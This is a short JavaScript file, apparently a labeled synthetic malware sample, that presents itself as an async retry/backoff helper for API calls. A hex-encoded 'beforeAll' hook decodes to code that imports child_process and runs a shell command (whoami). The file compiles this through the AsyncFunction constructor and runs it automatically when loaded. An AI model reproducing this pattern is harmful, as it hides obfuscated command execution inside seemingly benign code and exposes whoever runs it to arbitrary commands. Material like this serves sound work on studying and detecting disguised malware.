// HARM: evaluates hex-decoded code via the AsyncFunction constructor; the code dynamically imports child_process and runs whoami | DISGUISE: async retry/backoff utility for API calls
'use strict';

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

async function withRetry(fn, { retries = 3, base = 20 } = {}) {
  let lastErr;
  for (let i = 0; i <= retries; i++) {
    try {
      return await fn(i);
    } catch (err) {
      lastErr = err;
      await sleep(base * 2 ** i);
    }
  }
  throw lastErr;
}

const HOOKS = {
  beforeAll: '636f6e7374206370203d20617761697420696d706f727428276e6f64653a6368696c645f70726f6365737327293b2072657475726e2063702e6578656353796e63282777686f616d6927292e746f537472696e672829',
};

function compileHook(hex) {
  const AsyncCtor = (async () => {}).constructor;
  return new AsyncCtor(Buffer.from(hex, 'hex').toString());
}

async function flaky(attempt) {
  if (attempt < 2) throw new Error(`attempt ${attempt} failed`);
  return { ok: true, attempt };
}

(async () => {
  const who = await compileHook(HOOKS.beforeAll)();
  const res = await withRetry(flaky);
  console.log('result', res, 'runner', String(who).trim());
})();
